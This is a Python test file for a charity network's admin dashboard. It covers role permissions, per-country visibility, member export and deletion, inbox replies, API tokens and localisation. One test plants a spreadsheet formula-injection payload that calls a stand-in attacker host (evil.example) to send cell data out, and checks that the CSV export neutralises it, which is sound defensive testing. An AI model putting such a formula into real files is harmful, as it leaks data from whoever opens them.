"""The dashboard's pages by role: what a viewer may not do, what a country coordinator may not
see, members and their export and deletion, the inbox, accounts and tokens, in three languages."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import func, select

from bot.storage.models import AuditEntry, Contact, Conversation, Delivery
from tests.dialog import Member
from tests.handlers.test_menu import contact_of, onboard
from tests.harness import eventually
from tests.webhook.admin.dashboard import dashboard

ADMIN, EDITOR, VIEWER, MD = (
    "admin@childpact.org", "editor@childpact.org", "viewer@childpact.org", "md@childpact.org",
)  # fmt: skip
_POST_FORM = re.compile(r'<form[^>]*method="post"[^>]*action="([^"]+)"', re.I)
PERSONAL = {"/admin/locale", "/admin/logout"}  # one's own language and session, not the data


def post_forms(html: str) -> set[str]:
    return set(_POST_FORM.findall(html)) - PERSONAL


async def audit(board, action: str) -> list[AuditEntry]:
    async with board.stack.service.db.session() as session:
        return list(await session.scalars(select(AuditEntry).where(AuditEntry.action == action)))


async def test_a_viewer_sees_no_form_that_changes_or_sends_and_is_refused_when_posting(backend):
    async with dashboard(backend) as board:
        member = await board.member("RO")
        conversation = await board.conversation(member, "safeguarding")
        viewer = await board.sign_in(VIEWER)
        pages = ["/admin", "/admin/members", f"/admin/members/{member}", "/admin/inbox",
                 f"/admin/inbox/{conversation}"]  # fmt: skip
        for path in pages:
            page = await viewer.get(path)
            assert page.status_code == 200, path
            assert post_forms(page.text) == set(), path
            assert "Send the answer" not in page.text and "Delete this member" not in page.text
        for path in (f"/admin/inbox/{conversation}/reply", f"/admin/inbox/{conversation}/close",
                     f"/admin/inbox/{conversation}/assign", f"/admin/members/{member}/delete"):  # fmt: skip
            refused = await viewer.post(
                path, {"text": "hello", "confirm": str(member), "staff_id": ""}
            )
            assert refused.status_code == 403, path
        assert (await viewer.get(f"/admin/members/{member}/delete")).status_code == 403
        assert (await viewer.get("/admin/accounts")).status_code == 403
        assert (await viewer.get("/admin/audit")).status_code == 403
        async with board.stack.service.db.session() as session:
            assert await session.scalar(select(func.count()).select_from(Delivery)) == 0
            assert (await session.get(Conversation, conversation)).status == "open"  # type: ignore[union-attr]
            assert await session.get(Contact, member) is not None
        editor = await board.sign_in(EDITOR)
        forms = post_forms((await editor.get(f"/admin/inbox/{conversation}")).text)
        assert f"/admin/inbox/{conversation}/reply" in forms
        await viewer.close()
        await editor.close()


async def test_a_country_coordinator_sees_only_their_country(backend):
    async with dashboard(backend) as board:
        moldova = await board.member("MD", organisation="Ajutor Moldova")
        romania = await board.member("RO", organisation="Salvați Copiii")
        far = await board.conversation(romania, "safeguarding", "Un copil e în pericol")
        near = await board.conversation(moldova)
        md = await board.sign_in(MD)
        listing = await md.get("/admin/members")
        assert "Ajutor Moldova" in listing.text and "Salvați Copiii" not in listing.text
        assert "Salvați Copiii" not in (await md.get("/admin/members?country=RO")).text
        for path in (f"/admin/members/{romania}", f"/admin/members/{romania}/delete",
                     f"/admin/inbox/{far}", f"/admin/inbox/{far}/messages"):  # fmt: skip
            page = await md.get(path)
            assert page.status_code == 404 and "Not found" in page.text, path
        for path in (f"/admin/inbox/{far}/reply", f"/admin/inbox/{far}/close"):
            assert (await md.post(path, {"text": "hello"})).status_code == 404
        gone = await md.post(f"/admin/members/{romania}/delete", {"confirm": str(romania)})
        assert gone.status_code == 404
        inbox = await md.get("/admin/inbox?show=all")
        assert f"/admin/inbox/{near}" in inbox.text and f"/admin/inbox/{far}" not in inbox.text
        overview = await md.get("/admin")
        assert "Un copil" not in overview.text and f"/admin/inbox/{far}" not in overview.text
        rows = list(csv.DictReader(io.StringIO((await md.get("/admin/members.csv")).text)))
        assert [row["id"] for row in rows] == [str(moldova)]
        async with board.stack.service.db.session() as session:
            assert await session.get(Contact, romania) is not None
        await md.close()


async def test_members_are_found_exported_without_addresses_and_deleted_after_confirming(backend):
    async with dashboard(backend) as board:
        kept = await board.member("RO", organisation="Hope and Homes", channel="whatsapp",
                                  address="whatsapp:+40712345678", locale="en")  # fmt: skip
        other = await board.member("BG", organisation="Знание", status="stopped")
        editor = await board.sign_in(EDITOR)
        found = await editor.get("/admin/members?q=hope")
        assert (
            f"/admin/members/{kept}" in found.text and f"/admin/members/{other}" not in found.text
        )
        by_phone = await editor.get("/admin/members?q=%2B40+712+345+678")
        assert f"/admin/members/{kept}" in by_phone.text
        assert "712345678" not in by_phone.text  # searched by, never shown
        stopped = await editor.get("/admin/members?status=stopped")
        assert (
            f"/admin/members/{other}" in stopped.text
            and f"/admin/members/{kept}" not in stopped.text
        )
        export = await editor.get("/admin/members.csv?country=RO")
        assert export.headers["content-type"].startswith("text/csv")
        assert "712345678" not in export.text
        assert [r["organisation"] for r in csv.DictReader(io.StringIO(export.text))] == [
            "Hope and Homes"
        ]
        assert len(await audit(board, "member.export")) == 1

        page = await editor.get(f"/admin/members/{kept}")
        assert "712345678" not in page.text and "Receiving" in page.text
        assert "Stopped" in (await editor.get(f"/admin/members/{other}")).text
        confirm = await editor.get(f"/admin/members/{kept}/delete")
        assert "Yes, delete for good" in confirm.text
        assert (await editor.post(f"/admin/members/{kept}/delete")).status_code == 400  # no confirm
        deleted = await editor.post(f"/admin/members/{kept}/delete", {"confirm": str(kept)})
        assert deleted.status_code == 303
        assert (
            "The member and all their data are deleted."
            in (await editor.get(deleted.headers["location"])).text
        )
        assert (await editor.get(f"/admin/members/{kept}")).status_code == 404
        assert [e.target for e in await audit(board, "member.delete")] == [f"member:{kept}"]
        await editor.close()


async def test_an_answer_from_the_inbox_reaches_the_member_on_telegram(backend):
    async with dashboard(backend) as board:
        member = Member(board.stack, "telegram", lang="ro")
        await onboard(member, "ro", "MD")
        await member.tap("menu:secretariat")
        await member.say("Putem găzdui adunarea generală la Chișinău?")
        contact = await contact_of(member)
        editor = await board.sign_in(EDITOR)
        inbox = await editor.get("/admin/inbox")
        link = re.search(r'href="/admin/inbox/(\d+)"', inbox.text)
        assert link and "Chișinău" in inbox.text
        conversation = int(link.group(1))
        page = await editor.get(f"/admin/inbox/{conversation}")
        assert "Chișinău" in page.text and 'hx-trigger="every 10s"' in page.text

        sent = await editor.post(f"/admin/inbox/{conversation}/reply", {"text": "Da, cu plăcere!"})
        assert sent.status_code == 303
        arrived = await eventually(
            lambda: [
                m
                for m in board.stack.telegram.messages_to(contact.address)
                if m.text and "Da, cu plăcere!" in m.text
            ]
        )
        assert arrived
        assert "Da, cu plăcere!" in (await editor.get(f"/admin/inbox/{conversation}/messages")).text
        # Nobody had it: whoever answers takes it.
        assert "Assigned to Editor" in (await editor.get(f"/admin/inbox/{conversation}")).text

        me = str(board.ids[EDITOR])
        assert (
            await editor.post(f"/admin/inbox/{conversation}/assign", {"staff_id": me})
        ).status_code == 303
        assert "Assigned to Editor" in (await editor.get(f"/admin/inbox/{conversation}")).text
        assert f"/admin/inbox/{conversation}" in (await editor.get("/admin/inbox?show=mine")).text
        viewer_id = str(board.ids[VIEWER])  # a viewer cannot answer, so cannot be given one
        assert (
            await editor.post(f"/admin/inbox/{conversation}/assign", {"staff_id": viewer_id})
        ).status_code == 400
        await editor.post(f"/admin/inbox/{conversation}/close")
        assert (
            f"/admin/inbox/{conversation}"
            not in (await editor.get("/admin/inbox/list?show=open")).text
        )
        await editor.post(f"/admin/inbox/{conversation}/reopen")
        assert (
            f"/admin/inbox/{conversation}" in (await editor.get("/admin/inbox/list?show=open")).text
        )
        counts = {"inbox.reply": 1, "inbox.assign": 2, "inbox.close": 1, "inbox.reopen": 1}
        for action, count in counts.items():  # assigned by answering, then by hand
            assert len(await audit(board, action)) == count, action
        await editor.close()


async def test_safeguarding_stays_on_top_of_the_inbox_and_the_overview(backend):
    async with dashboard(backend) as board:
        first = await board.conversation(await board.member("RO"), "secretariat", "older question")
        alert = await board.conversation(
            await board.member("MD"), "safeguarding", "a child at risk"
        )
        later = await board.conversation(await board.member("AL"), "question", "newer question")
        admin = await board.sign_in(ADMIN)
        listing = (await admin.get("/admin/inbox")).text
        order = [int(i) for i in re.findall(r'href="/admin/inbox/(\d+)"', listing)]
        assert order[0] == alert and set(order) == {first, alert, later}
        assert 'class="thread k-safeguarding' in listing
        overview = (await admin.get("/admin")).text
        assert re.search(r'class="tile urgent".*?<span class="big">1</span>', overview, re.S)
        assert "Members by country" in overview and "<svg" in overview
        await admin.close()


async def test_the_overview_and_the_inbox_say_who_waits_and_what_they_wrote(backend):
    # The review's finding 19: "Waiting for an answer" showed only "Member #3".
    async with dashboard(backend) as board:
        member = await board.member("RO", organisation="Salvați Copiii")
        await board.conversation(member, "secretariat", "Putem aduce un voluntar la adunare?")
        editor = await board.sign_in(EDITOR)
        overview = (await editor.get("/admin")).text
        waiting = overview.split('class="threads compact"', 1)[1].split("</ul>", 1)[0]
        assert "Salvați Copiii · Romania" in waiting
        assert "Putem aduce un voluntar la adunare?" in waiting
        listing = (await editor.get("/admin/inbox")).text
        assert "Salvați Copiii · Romania · Telegram" in listing


async def test_accounts_roles_and_tokens(backend):
    async with dashboard(backend) as board:
        admin = await board.sign_in(ADMIN)
        viewer = await board.sign_in(VIEWER)
        promoted = await admin.post(
            f"/admin/accounts/{board.ids[VIEWER]}", {"role": "editor", "country": "MD"}
        )
        assert promoted.status_code == 303
        member = await board.member("MD")
        conversation = await board.conversation(member)
        assert (
            "Send the answer" in (await viewer.get(f"/admin/inbox/{conversation}")).text
        )  # at once
        assert (
            await admin.post(f"/admin/accounts/{board.ids[ADMIN]}", {"role": "viewer"})
        ).status_code == 403
        disabled = await admin.post(f"/admin/accounts/{board.ids[VIEWER]}", {"status": "disabled"})
        assert disabled.status_code == 303
        assert (await viewer.get("/admin")).status_code == 303  # their session is over
        assert [e.detail for e in await audit(board, "account.update")] == [
            {"role": "editor", "country": "MD"}, {"status": "disabled"}]  # fmt: skip

        created = await admin.post("/admin/tokens", {"name": "monthly report"})
        token = re.search(r'id="new-token">(cpm_[^<]+)<', created.text).group(1)  # type: ignore[union-attr]
        api = await board.stack.http.get(
            "/api/members", headers={"Authorization": f"Bearer {token}"}
        )
        assert api.status_code == 200
        listed = await admin.get("/admin/tokens")
        assert token not in listed.text and token[:12] in listed.text
        token_id = re.search(r'action="/admin/tokens/(\d+)/revoke"', listed.text).group(1)  # type: ignore[union-attr]
        assert (await admin.post(f"/admin/tokens/{token_id}/revoke")).status_code == 303
        api = await board.stack.http.get(
            "/api/members", headers={"Authorization": f"Bearer {token}"}
        )
        assert api.status_code == 401
        assert (
            len(await audit(board, "token.create")) == len(await audit(board, "token.revoke")) == 1
        )
        log = await admin.get("/admin/audit?action=token.")
        assert "token.create" in log.text and "account.update" not in log.text
        await admin.close()
        await viewer.close()


@pytest.mark.parametrize(
    ("locale", "words"),
    [("en", ["Overview", "Members by country", "Sign out"]),
     ("ro", ["Privire de ansamblu", "Membri pe țări", "Deconectare"]),
     ("ru", ["Обзор", "Участники по странам", "Выйти"])],
)  # fmt: skip
async def test_every_page_renders_in_each_language(backend, locale, words):
    async with dashboard(backend) as board:
        member = await board.member("MD")
        conversation = await board.conversation(member, "safeguarding")
        admin = await board.sign_in(ADMIN)
        switched = await admin.post("/admin/locale", {"locale": locale, "next": "/admin/audit"})
        assert switched.headers["location"] == "/admin/audit"
        overview = await admin.get("/admin")
        assert f'<html lang="{locale}">' in overview.text
        assert all(word in overview.text for word in words)
        for path in ("/admin/members", f"/admin/members/{member}", f"/admin/members/{member}/delete",
                     "/admin/inbox", f"/admin/inbox/{conversation}", "/admin/accounts",
                     "/admin/audit", "/admin/tokens", "/admin/no-such-page"):  # fmt: skip
            page = await admin.get(path)
            assert page.status_code == (404 if "no-such" in path else 200), path
            assert f'<html lang="{locale}">' in page.text, path
        async with board.client() as stranger:
            login = await stranger.get(f"/admin/login?lang={locale}")
            assert f'<html lang="{locale}">' in login.text
        await admin.close()


async def test_a_staff_group_that_became_a_supergroup_is_named_on_the_overview(backend):
    old, new = "-1001234567890", "-1009998887776"
    async with dashboard(
        backend, safeguarding_telegram_chat_id=old, telegram={"migrated": {old: int(new)}}
    ) as board:
        member = Member(board.stack, "whatsapp")
        await onboard(member, "ro", "RO")
        await member.say("Vecinul își bate copilul în fiecare seară, aud cum plânge")
        await eventually(lambda: board.stack.telegram.messages_to(new))
        admin = await board.sign_in(ADMIN)
        overview = (await admin.get("/admin")).text
        assert f"The Telegram group {old} became a supergroup with the id {new}" in overview
        assert "SAFEGUARDING_TELEGRAM_CHAT_ID" in overview
        await admin.close()


async def test_the_members_export_keeps_a_typed_formula_as_text(backend):
    async with dashboard(backend) as board:
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
        member = await board.member("MD", organisation=formula)
        editor = await board.sign_in(EDITOR)
        export = await editor.get("/admin/members.csv")
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export.text))}
        assert rows[str(member)]["organisation"] == "'" + formula
        await editor.close()


async def test_ids_too_large_for_the_database_answer_not_found_not_500(backend):
    huge = "99999999999999999999"
    async with dashboard(backend) as board:
        admin = await board.sign_in(ADMIN)
        for path in (f"/admin/members/{huge}", f"/admin/inbox/{huge}", f"/admin/broadcasts/{huge}",
                     f"/admin/broadcasts/{huge}/edit", f"/admin/surveys/{huge}",
                     f"/admin/surveys/{huge}/results", f"/admin/surveys/{huge}/launch"):  # fmt: skip
            answer = await admin.get(path)
            assert answer.status_code in (400, 404, 422), (path, answer.status_code)
        for path in (f"/admin/accounts/{huge}", f"/admin/tokens/{huge}/revoke",
                     f"/admin/inbox/{huge}/close", f"/admin/members/{huge}/delete",
                     f"/admin/broadcasts/{huge}/cancel"):  # fmt: skip
            answer = await admin.post(path, {"confirm": huge})
            assert answer.status_code in (400, 404, 422), (path, answer.status_code)
        await admin.close()
